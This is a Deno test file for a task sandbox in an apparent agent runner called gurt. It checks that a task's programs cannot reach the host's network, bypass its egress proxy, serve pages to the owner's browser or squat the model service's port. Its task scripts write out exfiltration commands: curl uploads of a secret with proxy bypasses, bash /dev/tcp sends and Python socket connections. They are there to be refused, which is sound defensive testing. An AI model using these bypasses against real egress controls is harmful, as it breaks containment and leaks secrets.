/**
 * What an outside review did with a task that had the host's network (issue 18), each as a test
 * against a real core as root, with a `cmd` worker in its task's sandbox: a secret sent to a
 * listener on the host's loopback, a web server of the task's own that the owner's browser could
 * visit (and hand the portal's cookie), a port of the host squatted, and every way around the
 * egress proxy a program in the task could try. Each held before the sandbox only by luck.
 */
import { assert, assertEquals, assertStringIncludes } from "../assert.ts";
import {
  exists,
  gurt,
  type Json,
  startBox,
  startScriptTask,
  taskEnd,
  type TestBox,
  until,
} from "../kit/mod.ts";

const decoder = new TextDecoder();

/** A listener on the host: how many connections reached it, and what they sent. */
function hostListener(hostname = "127.0.0.1") {
  const listener = Deno.listen({ hostname, port: 0 });
  const seen: string[] = [];
  const done = (async () => {
    for await (const conn of listener) {
      const buffer = new Uint8Array(4096);
      const n = await conn.read(buffer).catch(() => null);
      seen.push(n === null ? "" : decoder.decode(buffer.subarray(0, n)));
      conn.close();
    }
  })();
  return {
    port: (listener.addr as Deno.NetAddr).port,
    seen,
    async close() {
      listener.close();
      await done;
    },
  };
}

/** Runs `script` (sh) as a task's worker, waits for its end, and returns its log and record. */
async function runTask(
  box: TestBox,
  script: string,
  hosts: string[] = [],
): Promise<{ log: string; task: Json }> {
  const { id } = await startScriptTask(box, script, { hosts });
  return await taskEnd(box, id, 60_000);
}

function rootBox(toml = ""): Promise<TestBox> {
  return startBox({ core: { asRoot: true }, toml });
}

Deno.test({
  name: "a secret sent to a listener on the host's loopback never arrives, by any road",
  ignore: Deno.uid() !== 0,
  fn: async () => {
    const box = await rootBox();
    const listener = hostListener();
    try {
      const url = `http://127.0.0.1:${listener.port}/`;
      const { log, task } = await runTask(
        box,
        `echo secret > s.txt
         curl -s -m 5 --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w 'proxied %{http_code}\\n' \\
           --data-binary @s.txt ${url}
         curl -s -m 5 --noproxy '*' --data-binary @s.txt ${url} || echo noproxy refused
         env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy curl -s -m 5 --data-binary @s.txt ${url} || echo unset refused
         bash -c 'exec 3<>/dev/tcp/127.0.0.1/${listener.port}; cat s.txt >&3' 2>/dev/null || echo devtcp refused
         python3 -c "import socket; socket.create_connection(('127.0.0.1', ${listener.port}), 5)" 2>/dev/null || echo python refused`,
      );
      assertEquals(task.state, "done", log);
      assertStringIncludes(log, "proxied 403");
      for (const road of ["noproxy", "unset", "devtcp", "python"]) {
        assertStringIncludes(log, `${road} refused`);
      }
      assertEquals(listener.seen, [], "the host's listener was reached");
      const blocked = (await box.records()).map((r) => r.event).filter((e) =>
        e.type === "net_blocked"
      );
      assertEquals(blocked.length, 1, JSON.stringify(blocked));
      assertEquals(blocked[0].task, task.id);
      assertEquals(blocked[0].port, listener.port);
      const journal = (await box.admin("GET", `/tasks/${task.id}`)).body.journal as Json[];
      assert(journal.some((line) => line.type === "event" && line.event === "net.blocked"));
      // The owner sees it, and the task's list, in gurt task show.
      const shown = await gurt(["--home", box.home, "task", "show", task.id]);
      assertEquals(shown.code, 0, shown.stderr);
      assertStringIncludes(shown.stdout, "  hosts none but gurt.toml's [egress] hosts\n");
      assertStringIncludes(shown.stdout, ` blocked 127.0.0.1:${listener.port} (`);
    } finally {
      await listener.close();
      await box.close();
    }
  },
});

Deno.test({
  name: "the host's own addresses, UDP and DNS are out of reach; a task has only lo",
  ignore: Deno.uid() !== 0,
  fn: async () => {
    const box = await rootBox();
    const own = Deno.networkInterfaces().find((face) =>
      face.family === "IPv4" && !face.address.startsWith("127.")
    );
    const listener = hostListener("0.0.0.0");
    try {
      const target = own?.address ?? "127.0.0.1";
      const { log } = await runTask(
        box,
        `tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\\n' ' '; echo
         bash -c 'exec 3<>/dev/tcp/${target}/${listener.port}' 2>/dev/null && echo tcp4 open || echo tcp4 refused
         bash -c 'exec 3<>/dev/tcp/::1/${listener.port}' 2>/dev/null && echo tcp6 open || echo tcp6 refused
         python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('${target}', 53))" 2>/dev/null && echo udp sent || echo udp refused
         getent hosts registry.npmjs.org >/dev/null && echo dns answered || echo dns refused`,
      );
      assertStringIncludes(log, "lo \n");
      for (const road of ["tcp4", "tcp6", "udp", "dns"]) {
        assertStringIncludes(log, `${road} refused`);
      }
      assertEquals(listener.seen, []);
    } finally {
      await listener.close();
      await box.close();
    }
  },
});

Deno.test({
  name:
    "a web server of the task's own on 127.0.0.1 is not the host's: the owner's browser cannot reach it",
  ignore: Deno.uid() !== 0,
  fn: async () => {
    const box = await rootBox();
    const probe = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const port = (probe.addr as Deno.NetAddr).port;
    probe.close(); // a free port of the host, for the task to listen on inside
    try {
      const { id, home } = await startScriptTask(
        box,
        `python3 -c "
import socket, time
s = socket.socket(); s.bind(('127.0.0.1', ${port})); s.listen(5)
open('listening', 'w').close()
time.sleep(300)"`,
      );
      await until(() => exists(`${home}/listening`), 30_000);
      // The owner's browser, on the host, asks for the task's page and would send its cookies.
      const reached = await Deno.connect({ hostname: "127.0.0.1", port }).then(
        (conn) => (conn.close(), true),
        () => false,
      );
      assert(!reached, "the task's listener answered on the host's loopback");
      await box.admin("POST", `/tasks/${id}/stop`);
    } finally {
      await box.close();
    }
  },
});

Deno.test({
  name: "a task squatting the model service's port receives nothing the core sends there",
  ignore: Deno.uid() !== 0,
  fn: async () => {
    const probe = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const port = (probe.addr as Deno.NetAddr).port;
    probe.close(); // the model service is down: its port is free
    const box = await rootBox();
    try {
      const { id, home } = await startScriptTask(
        box,
        `python3 -c "
import socket
s = socket.socket(); s.bind(('127.0.0.1', ${port})); s.listen(5)
open('listening', 'w').close()
c, _ = s.accept(); open('got', 'wb').write(c.recv(65536))"`,
      );
      await until(() => exists(`${home}/listening`), 30_000);
      // What the core's relay would do: connect to the service's address and send the key.
      const sent = await Deno.connect({ hostname: "127.0.0.1", port }).then(async (conn) => {
        await conn.write(new TextEncoder().encode("POST / HTTP/1.1\r\nx-api-key: sk-live\r\n\r\n"));
        conn.close();
        return true;
      }, () => false);
      assert(!sent, "the core's connection reached the task's listener");
      assert(!(await exists(`${home}/got`)));
      await box.admin("POST", `/tasks/${id}/stop`);
    } finally {
      await box.close();
    }
  },
});

Deno.test({
  name:
    "gurt's own workers in a task try no network: a test worker's task has no net_blocked record",
  ignore: Deno.uid() !== 0,
  fn: async () => {
    const box = await rootBox();
    try {
      const answer = await box.admin("POST", "/tasks", {
        worker: { kind: "test", scriptText: 'POST /step {"text":"one step"}\n' },
        tools: ["example.echo"],
        budgetCents: null,
      });
      assertEquals(answer.status, 200, JSON.stringify(answer.body));
      const { task, log } = await taskEnd(box, answer.body.task.id, 60_000);
      assertEquals(task.state, "done", log);
      const blocked = (await box.records()).filter((r) => r.event.type === "net_blocked");
      assertEquals(blocked.map((r) => r.event.host), [], "Deno's update check, or another try");
    } finally {
      await box.close();
    }
  },
});
